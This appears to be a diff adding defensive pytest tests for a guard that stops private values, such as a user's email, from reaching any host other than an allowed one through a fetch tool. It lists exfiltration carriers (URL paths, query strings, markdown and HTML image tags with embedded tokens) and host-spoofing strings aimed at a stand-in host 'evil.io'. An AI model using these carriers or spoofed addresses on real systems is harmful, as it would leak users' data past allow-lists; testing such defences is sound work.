@@ -111,3 +111,39 @@ def test_no_value_becomes_part_of_the_host_of_a_url(
     refusal(driver.tool("fetch__get", url=url))
     refusal(driver.tool("fetch__get", deep={"text": [url]}))
     assert told(fetch, since=before) == []
+
+
+# -- where an address may carry a value at all
+
+CARRIERS = (
+    "https://{host}/{token}", "https://{host}/a?e={token}&x=1", "https://{host}/#{token}", "https://{host}?{token}",
+    "![pic](https://{host}/p.png?e={token})", '<img src="https://{host}/{token}">', "see https://u:p@{host}:8443/{token}",
+    '{{"deep": "{{\\"url\\": \\"https://{host}/?e={token}\\"}}"}}',
+)  # fmt: skip
+ELSEWHERE = (
+    "evil.io", "evil.io\\@good.io", "good.io\\@evil.io", "evil.io\\.good.io", "good.io@evil.io", "good.io.evil.io",
+    "evilgood.io", "good.io%2eevil.io", "evil.io%2f@x.good.io.evil.io",
+)  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def walled(module_peers: Processes, tmp_path_factory: pytest.TempPathFactory) -> tuple[Driver, Upstream, str]:
+    """A value may leave for good.io and for nowhere else."""
+    folder = tmp_path_factory.mktemp("walled")
+    crm, fetch = honest(folder), Upstream("fetch", folder).tool("get")
+    flow = {"from": "crm", "to": "fetch", "categories": ["EMAIL"], "hosts": ["good.io"], "action": "allow"}
+    driver = meet(module_peers, crm, fetch, flows=[flow], entries={"fetch": {"token_scope": "upstream"}})
+    return driver, fetch, shown(driver)["email"]
+
+
+@pytest.mark.parametrize("carrier", CARRIERS)
+def test_an_address_carries_a_value_to_the_hosts_that_a_flow_names_only(
+    walled: tuple[Driver, Upstream, str], carrier: str
+) -> None:
+    driver, fetch, token = walled
+    before = len(fetch.received_bytes())
+    for host in ELSEWHERE:
+        refusal(driver.tool("fetch__get", text=carrier.format(host=host, token=token)))
+    assert told(fetch, since=before) == []
+    assert "isError" not in driver.tool("fetch__get", text=carrier.format(host="good.io", token=token))
+    assert told(fetch, since=before) == [KIM.email]
